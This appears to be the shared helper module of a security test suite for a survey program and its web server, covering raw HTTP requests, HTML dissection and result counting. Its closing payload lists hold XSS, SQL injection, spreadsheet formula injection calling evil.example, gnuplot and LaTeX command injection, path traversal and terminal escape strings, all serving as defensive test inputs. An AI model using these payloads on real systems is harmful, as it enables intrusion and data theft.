"""What the attacks share: programs and servers to attack, requests written byte by byte, pages taken apart, a count.

BIN names the folder of the programs. Every attack runs in a folder of its own, which is gone afterwards; `finish`
prints `N passed, N failed` and ends with 1 after a failure. What is counted must be able to fail: a reply is compared
with what is expected of it, never only looked at.
"""
import atexit
import html.parser
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
BIN = os.path.abspath(os.environ.get("BIN") or os.path.join(ROOT, "bin"))
SURVEY, ANALYSIS = os.path.join(BIN, "survey"), os.path.join(BIN, "analysis")
TYPES = os.path.join(ROOT, "tests/questionnaires/all-types.yaml")
DESK = os.path.join(ROOT, "questionnaires/accueil.yaml")
PASSWORD = "made up, and long"
PATIENCE = 120  # seconds until a program counts as hung

FOLDER = tempfile.mkdtemp(prefix="attack-")
os.chmod(FOLDER, 0o755)
os.chdir(FOLDER)
for name in ("SURVEY_STORE", "http_proxy", "HTTP_PROXY"):
    os.environ.pop(name, None)

passed, failed, servers = 0, 0, []


def check(name, good, detail=""):
    global passed, failed
    if good:
        passed += 1
        return
    failed += 1
    print("FAILED", name)
    if detail:
        text = detail.decode(errors="replace") if isinstance(detail, bytes) else str(detail)
        print("   ", repr(text[:600]))


def same(name, got, wanted):
    check(name, got == wanted, f"{got!r} instead of {wanted!r}")


@atexit.register
def clean():
    for server in servers:
        server.kill()
    os.chdir("/")
    shutil.rmtree(FOLDER, ignore_errors=True)


def finish():
    print(f"{passed} passed, {failed} failed")
    sys.exit(failed > 0)


# --- programs ---

def run(*words, given=b"", limit=PATIENCE, **options):
    """Runs a program to its end; what it wrote is bytes. Whoever hangs has the status None."""
    try:
        return subprocess.run(words, input=given, capture_output=True, timeout=limit, **options)
    except subprocess.TimeoutExpired as late:
        return subprocess.CompletedProcess(words, None, late.stdout or b"", late.stderr or b"")


def survey(*words, **options):
    return run(SURVEY, *words, **options)


def analysis(*words, **options):
    return run(ANALYSIS, *words, **options)


def is_sane(done):
    """Done, failed or wrong usage, as the contract has it: not hung, and not ended by a signal."""
    return done.returncode in (0, 1, 2)


def write(path, content):
    with open(path, "wb") as file:
        file.write(content if isinstance(content, bytes) else content.encode())
    return path


def read(path):
    with open(path, "rb") as file:
        return file.read()


def rows(store, sql):
    done = run("sqlite3", "-readonly", "-json", store, sql)
    import json
    return json.loads(done.stdout or b"[]")


def responses(store):
    return rows(store, "SELECT count(*) AS n FROM response")[0]["n"]


class Server:
    """A survey server. What it says on standard error is in `said`."""

    def __init__(self, questionnaire, *words, listen="127.0.0.1:0"):
        self.log = tempfile.TemporaryFile(dir=FOLDER)
        self.process = subprocess.Popen([SURVEY, "serve", questionnaire, *words, "--listen", listen],
                                        stderr=self.log, stdin=subprocess.DEVNULL)
        servers.append(self.process)
        self.pid = self.process.pid
        end = time.monotonic() + PATIENCE
        self.port = None
        while self.port is None and time.monotonic() < end and self.process.poll() is None:
            time.sleep(0.05)
            self.port = self.find_port(listen)
        if self.port is None:
            check("the server starts", False, self.said())
            finish()

    def find_port(self, listen):
        """From the kernel, since the server names the address of the proxy in front if it has one."""
        if b" at http" not in self.said():
            return None
        own = {os.readlink(f"/proc/{self.pid}/fd/{n}") for n in os.listdir(f"/proc/{self.pid}/fd")}
        for line in open("/proc/net/tcp"):
            part = line.split()
            if len(part) > 9 and part[3] == "0A" and f"socket:[{part[9]}]" in own:
                return int(part[1].split(":")[1], 16)
        return None

    def said(self):
        self.log.seek(0)
        return self.log.read()

    def processes(self):
        children = open(f"/proc/{self.pid}/task/{self.pid}/children").read().split()
        return [self.pid, *map(int, children)]

    def memory(self, what="VmRSS"):
        """Megabytes of the server and of its office."""
        total = 0
        for pid in self.processes():
            found = re.search(rf"{what}:\s*(\d+) kB", open(f"/proc/{pid}/status").read())
            total += int(found[1]) if found else 0
        return total / 1024

    def stop(self, name):
        self.process.terminate()
        try:
            same(f"{name}: it ends as it should", self.process.wait(PATIENCE), 0)
        except subprocess.TimeoutExpired:
            check(f"{name}: it ends", False)
            self.process.kill()

    def ask(self, path="/", fields=None, **options):
        return ask(self.port, path, fields, **options)

    def send(self, request, **options):
        return talk(self.port, request, **options)


# --- requests ---

class Reply:
    def __init__(self, raw):
        head, _, self.body = raw.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        found = re.match(r"HTTP/1\.[01] (\d+)", lines[0])
        self.status = int(found[1]) if found else None
        self.headers = [tuple(part.strip() for part in line.split(":", 1)) for line in lines[1:] if ":" in line]
        self.raw = raw

    def header(self, name):
        return ", ".join(value for key, value in self.headers if key.lower() == name.lower())

    def text(self):
        return self.body.decode(errors="replace")


def talk(port, request, seconds=20, source="127.0.0.1", close=False):
    """Sends bytes as they are; gives all that comes until the other side closes or is silent for so long."""
    raw = b""
    with socket.socket() as plug:
        plug.bind((source, 0))
        plug.settimeout(seconds)
        try:
            plug.connect(("127.0.0.1", port))
            plug.sendall(request)
            if close:
                plug.shutdown(socket.SHUT_WR)
            while piece := plug.recv(65536):
                raw += piece
        except OSError:
            pass
    return raw


def ask(port, path="/", fields=None, method=None, headers=(), body=None, host=None, **options):
    """One request as a browser makes it. The fields are pairs, or a map."""
    if fields is not None:
        body = urllib.parse.urlencode(fields).encode()
    method = method or ("GET" if body is None else "POST")
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host or f'127.0.0.1:{port}'}", "Connection: close", "Accept-Language: en"]
    if body is not None:
        lines += [f"Content-Length: {len(body)}"]
        if not any(line.lower().startswith("content-type") for line in headers):
            lines += ["Content-Type: application/x-www-form-urlencoded"]
    raw = talk(port, "\r\n".join([*lines, *headers, "", ""]).encode("latin-1") + (body or b""), **options)
    return Reply(raw)


def statuses(raw):
    """Of all replies on a connection, in order. A body that looks like a status line would be one too many."""
    return [int(status) for status in re.findall(rb"(?m)^HTTP/1\.[01] (\d{3}) ", raw)]


# --- what a browser would make of a page ---

class Dissection(html.parser.HTMLParser):
    """Tags with their attributes, and what could act: scripts, frames, handlers, addresses elsewhere."""

    TRUSTED = re.compile(r"^(#|/(?![/\\])|\?|data:image/(png|svg\+xml);|data:,$|charts/|mailto:|https?://127\.0\.0\.1[:/])")
    LINKS = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset", "background", "ping")

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.tags, self.acts = [], []
        self.script = None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, *sorted(name for name, _ in attributes)))
        if tag in ("iframe", "object", "embed", "base", "applet", "frame", "portal", "foreignobject"):
            self.acts.append(tag)
        for name, value in attributes:
            if name.startswith("on") or name in ("srcdoc", "http-equiv"):
                self.acts.append(f"{tag} {name}={value}")
            if name in self.LINKS and not self.TRUSTED.match((value or "").strip()):
                self.acts.append(f"{tag} {name}={value}")
        self.script = "" if tag == "script" else None

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if self.script is not None:
            self.acts.append("script " + data)
            self.script = None


def acts(page):
    return Dissection(page if isinstance(page, str) else page.decode(errors="replace")).acts


def tags(page):
    return Dissection(page if isinstance(page, str) else page.decode(errors="replace")).tags


# --- payloads: each with its mark, so that it is found again wherever it went ---

MARKUP = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</textarea></title></style><script>alert(1)</script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{content}} {{rate overall}} {{quotes remark}}",
]
SQL = [
    "'; DROP TABLE response;--",
    "\" OR \"1\"=\"1",
    "x'); DELETE FROM response WHERE ('1'='1",
    "Robert') UNION SELECT key FROM response--",
]
FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+cmd|' /C touch pwned'!A0",
    "-2+3+cmd|' /C touch pwned'!A0",
    "@SUM(1+1)*cmd|' /C touch pwned'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
GNUPLOT = [
    "`touch pwned`",
    "$(touch pwned)",
    "\"; system(\"touch pwned\"); \"",
    "'; system('touch pwned'); '",
    "@system(\"touch pwned\")",
    "\\\"\n!touch pwned\n",
    "| touch pwned",
    "{/Symbol a}_{b}^{c} @x &{y} ~a{.8-}",
    "\\",
    "\"",
    "'",
    "%s%n%d",
    "#",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "<http://evil.example/>",
    "`<script>alert(1)</script>`{=html}",
    "```{=html}\n<script>alert(1)</script>\n```",
    "\n\n<script>alert(1)</script>\n\n",
    "\n\n# A heading of mine\n\n",
    "\n\n[x]: javascript:alert(1)\n\n[x]",
    "[x]{onclick=alert(1)}",
    "::: {onclick=alert(1)}\nx\n:::",
    "$$\\input{/etc/passwd}$$",
    "\\immediate\\write18{touch pwned}",
    "| a | b |\n|---|---|\n| c | d |",
    "\n---\ntitle: mine\n---\n",
    "1. one\n   <script>alert(1)</script>",
    "    <script>alert(1)</script>",
]
PATHS = [
    "../../../../../../tmp/pwned",
    "/etc/passwd",
    "-rf",
    "--output=pwned",
    "con.svg\\..\\..\\pwned",
    "pwned;touch pwned",
    "file:///etc/passwd",
]
# ESC, BEL, BS, the C1 twins of CSI and OSC, and the marks that turn the direction of what follows.
TERMINAL = [
    "\x1b[2J\x1b[31mred",
    "\x1b]0;pwned\x07",
    "\x1b]52;c;cHduZWQ=\x07",
    "a\bb",
    "a\x7fb",
    "\x9b31mred",
    "\x9d0;pwned\x9c",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\u200e\u200f\u061c",
]
TEXTS = MARKUP + SQL + FORMULAS + GNUPLOT + MARKDOWN + PATHS

DANGEROUS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def steers(output):
    """The first sign in what a program printed that a terminal would obey; "" if there is none."""
    found = DANGEROUS.search(output.decode(errors="replace"))
    return repr(output.decode(errors="replace")[max(0, found.start() - 40):found.end() + 20]) if found else ""
